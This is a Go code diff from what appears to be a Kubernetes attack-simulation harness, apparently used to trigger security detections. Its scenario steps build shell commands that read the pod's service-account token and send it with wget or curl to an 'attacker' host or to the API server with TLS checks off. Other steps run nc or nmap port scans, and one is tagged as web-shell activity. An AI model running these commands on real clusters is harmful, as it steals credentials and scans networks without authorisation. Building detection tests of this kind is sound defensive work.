@@ -55,6 +55,13 @@ type stepEnv struct {
 	curl     bool   // the victim has curl
 	nmap     bool   // the victim has nmap
 	miner    string // the file name the miner is served under
+	// In a cluster only (empty locally):
+	// scanHosts are the hosts the scan may touch (the attacker pod and
+	// the victim itself, never a subnet);
+	scanHosts []string
+	// apiServer is the real API server's base URL as the victim's shell
+	// spells it (from the pod's environment).
+	apiServer string
 }
 
 const tokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token"
@@ -72,13 +79,23 @@ func Scenarios() []Scenario {
 			Steps: func(e stepEnv) []Step {
 				review := `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"default"}}`
 				url := "http://" + e.attacker + ":6443/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
-				ask := "wget -q -O- --header \"Authorization: Bearer $(cat " + tokenPath + ")\" --header 'Content-Type: application/json' --post-data '" + review + "' " + url
+				tls := ""
+				if e.apiServer != "" {
+					// The real API server, with the pod's own token: an
+					// audit event of its service account.
+					url = e.apiServer + "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
+					tls = "--no-check-certificate "
+				}
+				ask := "wget -q -O- " + tls + "--header \"Authorization: Bearer $(cat " + tokenPath + ")\" --header 'Content-Type: application/json' --post-data '" + review + "' " + url
 				if e.curl {
 					ask = "curl -s -H \"Authorization: Bearer $(cat " + tokenPath + ")\" -H 'Content-Type: application/json' -d '" + review + "' " + url
 				}
 				scan := fmt.Sprintf("for h in 1 2; do nc -z -w 1 %s.$h 20-1024; done; echo scanned", e.subnet)
 				if e.nmap {
 					scan = fmt.Sprintf("nmap -sT -Pn -n --max-retries 0 -p 20-1024 %s.1-2", e.subnet)
+				}
+				if len(e.scanHosts) > 0 {
+					scan = fmt.Sprintf("for h in %s; do nc -z -w 1 $h 20-1024; done; echo scanned", strings.Join(e.scanHosts, " "))
 				}
 				return []Step{
 					{Command: "id; whoami; uname -a", Raises: []string{"web-shell"}},
